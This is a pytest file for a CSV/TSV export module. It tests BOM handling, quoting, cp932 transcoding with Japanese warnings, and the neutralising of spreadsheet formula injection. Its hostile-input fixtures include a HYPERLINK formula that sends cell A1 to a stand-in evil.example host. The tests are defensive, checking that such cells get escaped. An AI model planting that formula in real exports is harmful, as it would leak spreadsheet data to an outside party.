"""Tests for the CSV and TSV exports: BOM, round trip, formulas neutralised, cp932 with reported
replacements."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from export_rows import (
    APPLY_SENTENCE,
    FILE_1,
    FILE_3,
    HEADERS_EN,
    HEADERS_JA,
    SEARCH_HEADERS_JA,
    TITLE_1,
    URL_3,
    sample_rows,
)
from hypothesis import given
from hypothesis import strategies as st

from kb.export import write_export
from kb.export.charset import MAX_CHAR_WARNINGS, Transcoder
from kb.export.delimited import render_delimited
from kb.export.tabular import FORMULA_START, SEARCH
from kb.models import ExportRow

BOM = b"\xef\xbb\xbf"


def _read_csv(path: Path, encoding: str, delimiter: str = ",") -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.reader(f, delimiter=delimiter))


def test_csv_has_bom_and_round_trips(tmp_path: Path) -> None:
    out = tmp_path / "facts.csv"
    result = write_export(sample_rows(), "csv", str(out))
    assert (result.path, result.rows, result.format, result.warnings) == (str(out), 10, "csv", [])
    raw = out.read_bytes()
    assert raw.startswith(BOM)
    assert b"\r\n" in raw
    table = _read_csv(out, "utf-8-sig")
    assert table[0] == HEADERS_JA
    assert table[1] == [
        "◼️オンライン申請",
        "32万件",
        "320000",
        "件",
        "",
        "数量",
        APPLY_SENTENCE,
        TITLE_1,
        "2023-07-05",
        "#1",
        "41",
        FILE_1,
        "",
    ]
    assert table[2][2] == "1200000000"  # no "1200000000.0"
    assert table[4][1:3] == ["15.25分", "15.25"]
    assert table[5][1:5] == ["40〜60件", "40", "件", "範囲 40〜60"]
    assert table[10][8:] == ["", "#3", "", FILE_3, URL_3]
    assert len(table) == 11


def test_csv_quotes_only_where_needed(tmp_path: Path) -> None:
    row = ExportRow("見出し", "passage", '一行目、"引用"\n二行目, 三', "t", None, "f.txt", 5)
    out = tmp_path / "q.csv"
    write_export([row], "csv", str(out), headers="en")
    text = out.read_bytes().decode("utf-8-sig")
    assert text.split("\r\n")[0] == ",".join(HEADERS_EN)
    assert '"一行目、""引用""\n二行目, 三"' in text
    assert text.endswith(",,5,f.txt,\r\n")
    assert _read_csv(out, "utf-8-sig")[1][6] == '一行目、"引用"\n二行目, 三'


def test_tsv(tmp_path: Path) -> None:
    out = tmp_path / "facts.tsv"
    result = write_export(sample_rows(), "tsv", str(out))
    assert result.format == "tsv"
    raw = out.read_bytes()
    assert raw.startswith(BOM)
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert lines[0] == "\t".join(HEADERS_JA)
    assert lines[1].split("\t")[:3] == ["◼️オンライン申請", "32万件", "320000"]
    same = tmp_path / "same.csv"
    write_export(sample_rows(), "csv", str(same))
    assert _read_csv(out, "utf-8-sig", "\t") == _read_csv(same, "utf-8-sig")


def test_search_hits_have_their_own_columns(tmp_path: Path) -> None:
    out = tmp_path / "hits.csv"
    write_export(sample_rows()[8:], "csv", str(out), layout="search")
    table = _read_csv(out, "utf-8-sig")
    assert table[0] == SEARCH_HEADERS_JA
    assert all(len(row) == len(SEARCH_HEADERS_JA) for row in table)
    assert table[1][:4] == ["#2", "視察報告③北浜町の除雪と冬の暮らし", "2023-01-20", "◼️冬の暮らし"]
    assert table[2] == [
        "#3",
        "防災センター見学",
        "",
        "",
        "午後は防災センターで、地震の揺れを体験できる訓練の様子を見学しました。",
        "",
        FILE_3,
        URL_3,
    ]
    assert all(cell for cell in table[1])  # no empty figure columns in a search export


# --------------------------------------------------------------------------- formula injection

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"議事録はこちら")',
    "+81-3-1234-5678 まで電話",
    "-12度の朝でも通学路は除雪済み",
    "@議会事務局 宛て",
    "\t字下げされた引用",
    "\r改行で始まる段落",
]


def _hostile_rows() -> list[ExportRow]:
    rows = []
    for n, text in enumerate(HOSTILE, start=1):
        rows.append(
            ExportRow(
                topic=text,
                kind="quantity",
                sentence=text,
                title=text,
                date="2023-07-05",
                source=f"/home/giin/{text[1:4]}.txt",
                line=n,
                surface="-12度",
                value=-12,
                value_max=None,
                unit="度",
                qualifier="=1+1",
                post_id=n,
            )
        )
    return rows


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_formula_cells_are_neutralised_and_numbers_stay_numbers(
    tmp_path: Path, fmt: str, delimiter: str
) -> None:
    out = tmp_path / f"hostile.{fmt}"
    write_export(_hostile_rows(), fmt, str(out))
    table = _read_csv(out, "utf-8-sig", delimiter)
    for n, (text, row) in enumerate(zip(HOSTILE, table[1:], strict=True), start=1):
        assert row[0] == row[6] == row[7] == "'" + text  # 項目, 原文, タイトル
        assert row[1] == "'-12度"  # the figure is text
        assert row[2] == "-12"  # the value is a number: left as it is
        assert row[4] == "'=1+1"  # 補足
        assert row[10] == str(n)
    for row in table:
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert cell == "-12"  # the only cell a spreadsheet may read as more than text


def test_search_export_is_neutralised_too(tmp_path: Path) -> None:
    out = tmp_path / "hits.tsv"
    write_export(_hostile_rows()[:1], "tsv", str(out), layout="search")
    row = _read_csv(out, "utf-8-sig", "\t")[1]
    assert row[1] == row[3] == row[4] == "'" + HOSTILE[0]
    assert row[0] == "#1"


def test_neutralised_cells_round_trip_with_the_quote() -> None:
    row = ExportRow("見出し", "passage", '=1+1 と書いた "メモ", その後', "t", None, "f.txt", 1)
    text = render_delimited([row], "ja")
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert back[1][6] == "'" + row.sentence


# --------------------------------------------------------------------------------------- cp932


def test_cp932_replaces_and_reports(tmp_path: Path) -> None:
    rows = sample_rows()
    rows[8].sentence = "スマホ📱で申請。㐂寿の祝い。서울시。"
    out = tmp_path / "sjis.csv"
    result = write_export(rows, "csv", str(out), encoding="cp932")
    raw = out.read_bytes()
    assert not raw.startswith(BOM)
    text = raw.decode("cp932")  # the whole file is valid cp932
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == HEADERS_JA
    # ◼️ (U+25FC U+FE0F): the square becomes 〓, the invisible selector is dropped
    assert table[1][0] == "〓オンライン申請"
    assert table[9][6] == "スマホ〓で申請。〓寿の祝い。〓〓〓。"
    # characters cp932 has are intact, including the range's wave dash
    assert table[5][1] == "40～60件"
    assert table[1][1] == "32万件"
    assert result.warnings == [
        "2 行目「項目」: '◼' U+25FC は cp932 で書けないため「〓」に置き換えました (8 か所)",
        "2 行目「項目」: U+FE0F (VARIATION SELECTOR-16) は cp932 で書けないため除きました (8 か所)",
        "10 行目「原文」: '📱' U+1F4F1 は cp932 で書けないため「〓」に置き換えました",
        "10 行目「原文」: '㐂' U+3402 は cp932 で書けないため「〓」に置き換えました",
        "10 行目「原文」: '서' U+C11C は cp932 で書けないため「〓」に置き換えました",
        "10 行目「原文」: '울' U+C6B8 は cp932 で書けないため「〓」に置き換えました",
        "10 行目「原文」: '시' U+C2DC は cp932 で書けないため「〓」に置き換えました",
    ]


def test_cp932_names_the_search_columns(tmp_path: Path) -> None:
    rows = sample_rows()[8:]
    rows[1].topic = "◼️防災"
    result = write_export(rows, "csv", str(tmp_path / "hits.csv"), layout="search", encoding="cp932")
    assert result.warnings[0] == (
        "2 行目「見出し」: '◼' U+25FC は cp932 で書けないため「〓」に置き換えました (2 か所)"
    )


def test_cp932_lookalikes_and_compatibility_forms(tmp_path: Path) -> None:
    row = ExportRow("見出し", "quantity", "面積は10km²、2018–2019年、価格¥500—以上", "t", None, "f", 3)
    out = tmp_path / "x.tsv"
    result = write_export([row], "tsv", str(out), encoding="CP932")
    line = out.read_bytes().decode("cp932").split("\r\n")[1].split("\t")
    assert line[6] == "面積は10km2、2018-2019年、価格￥500―以上"
    assert [w.split(": ", 1)[1] for w in result.warnings] == [
        "'²' U+00B2 は cp932 で書けないため「2」に置き換えました",
        "'–' U+2013 は cp932 で書けないため「-」に置き換えました",
        "'¥' U+00A5 は cp932 で書けないため「￥」に置き換えました",
    ]  # the em dash has the same glyph in cp932 (U+2015): not reported


def test_many_distinct_characters_are_summed_up(tmp_path: Path) -> None:
    emoji = "".join(chr(0x1F600 + i) for i in range(MAX_CHAR_WARNINGS + 5))
    rows = [ExportRow("見出し", "passage", emoji, "t", None, "f", n) for n in range(1, 1001)]
    result = write_export(rows, "csv", str(tmp_path / "many.csv"), encoding="cp932")
    assert len(result.warnings) == MAX_CHAR_WARNINGS + 1
    assert result.warnings[0] == (
        "2 行目「原文」: '😀' U+1F600 は cp932 で書けないため「〓」に置き換えました (1000 か所)"
    )
    assert result.warnings[-1] == ("ほかに 5 種類の文字 (5000 か所) も cp932 で書けないため置き換えました")


def test_utf8_without_bom(tmp_path: Path) -> None:
    for name, encoding, bom in (("plain.csv", "utf-8", True), ("nobom.csv", None, False)):
        out = tmp_path / name
        result = write_export(sample_rows(), "csv", str(out), encoding=encoding, bom=bom)
        assert result.warnings == []
        raw = out.read_bytes()
        assert raw.startswith("項目".encode())
        assert "◼️オンライン申請".encode() in raw


def test_empty_csv_is_just_the_header(tmp_path: Path) -> None:
    out = tmp_path / "empty.csv"
    result = write_export([], "csv", str(out))
    assert result.rows == 0
    assert out.read_bytes() == ("\ufeff" + ",".join(HEADERS_JA) + "\r\n").encode()
    out = tmp_path / "empty-hits.csv"
    write_export([], "csv", str(out), layout="search")
    assert out.read_bytes() == ("\ufeff" + ",".join(SEARCH_HEADERS_JA) + "\r\n").encode()


@given(st.text(max_size=60))
def test_cp932_output_always_encodes(text: str) -> None:
    transcoder = Transcoder("cp932")
    fixed = transcoder.fix(text, 2, "原文")
    fixed.encode("cp932")
    try:
        text.encode("cp932")
    except UnicodeEncodeError:
        return
    assert fixed == text
    assert transcoder.warnings() == []


@given(st.text(max_size=40), st.text(max_size=40).map(lambda s: s or None))
def test_csv_round_trips_any_text(sentence: str, topic: str | None) -> None:
    row = ExportRow(topic, "passage", sentence, "題", None, "f.txt", 1)
    back = list(csv.reader(io.StringIO(render_delimited([row], "ja"), newline="")))
    for cell, text in ((back[1][0], topic or ""), (back[1][6], sentence)):
        assert cell == ("'" + text if text.startswith(FORMULA_START) else text)
    hits = list(csv.reader(io.StringIO(render_delimited([row], "ja", layout=SEARCH), newline="")))
    assert hits[1][4] == back[1][6]
